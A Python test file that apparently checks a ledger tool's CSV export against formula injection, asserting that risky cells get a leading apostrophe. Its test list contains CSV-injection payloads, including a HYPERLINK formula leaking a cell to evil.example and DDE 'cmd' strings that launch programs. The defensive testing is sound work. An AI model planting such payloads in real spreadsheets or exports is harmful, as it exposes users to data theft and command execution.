"""CSV files xlperf writes never carry a formula into Excel (OWASP's CSV-injection guidance):
a text cell starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe;
numbers stay numbers; the ledger keeps the text as submitted."""

from __future__ import annotations

import csv

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from xlperf.core.values import FORMULA_STARTS
from xlperf.ledger import Ledger, export, write_export
from xlperf.ledger._export import neutralise_formulas

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=cmd|' /C calc'!A0",
           "\r=1+1", "＝1+1"]


def _rows(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_export_neutralises_commentary_and_keeps_the_ledger_as_submitted(tmp_path):
    codes = [f"M{i:02d}" for i in range(len(HOSTILE))]
    submitted = pd.DataFrame({
        "Code": [*codes, "NEG"], "Period": "Q1 2013/14",
        "Actual": pd.Series([*range(len(HOSTILE)), -35.5], dtype=object),
        "Commentary": [*HOSTILE, "plain words"], "Source file": "r.xlsx",
        "Source SHA-256": "a" * 64, "Sheet": "Return",
        "Cell": [f"D{i + 5}" for i in range(len(HOSTILE) + 1)]})
    with Ledger(tmp_path / "l.sqlite") as ledger:
        ledger.record_values(submitted)
        stored = ledger.current_values().set_index("Code")["Commentary"]
        table = export(ledger)
    out = write_export(table, tmp_path / "export.csv")
    rows = {row["code"]: row for row in _rows(out)}
    for code, text in zip(codes, HOSTILE, strict=True):
        # The ledger keeps what was typed (a leading tab is trimmed on the way in: that must
        # not re-arm the formula behind it).
        kept = stored[code]
        assert kept in (text, text.strip())
        cell = rows[code]["commentary"]
        assert cell == "'" + kept, (code, cell)
        assert cell[:1] not in FORMULA_STARTS
    assert rows["NEG"]["value"] == "-35.5"  # a negative number stays a number
    assert rows["NEG"]["commentary"] == "plain words"


def test_every_text_column_is_neutralised_titles_too(tmp_path):
    frame = pd.DataFrame({"code": ["=A1"], "title": ["=SUM(A1:A9)"], "value": [-4.0],
                          "variance": [-1.5], "period_start": pd.to_datetime(["2013-04-01"])})
    rows = _rows(write_export(frame, tmp_path / "x.csv"))
    assert rows == [{"code": "'=A1", "title": "'=SUM(A1:A9)", "value": "-4.0",
                     "variance": "-1.5", "period_start": "2013-04-01"}]


@given(st.lists(st.one_of(st.none(), st.text(max_size=12), st.floats(allow_nan=False)),
                min_size=1, max_size=8))
def test_neutralising_adds_one_apostrophe_to_risky_text_only(cells):
    frame = pd.DataFrame({"cell": pd.Series(cells, dtype=object)})
    out = neutralise_formulas(frame)["cell"].tolist()
    for before, after in zip(cells, out, strict=True):
        if isinstance(before, str) and before[:1] and before[0] in FORMULA_STARTS:
            assert after == "'" + before
        elif before is None:
            assert after is None
        else:
            assert after == before  # numbers and harmless text untouched
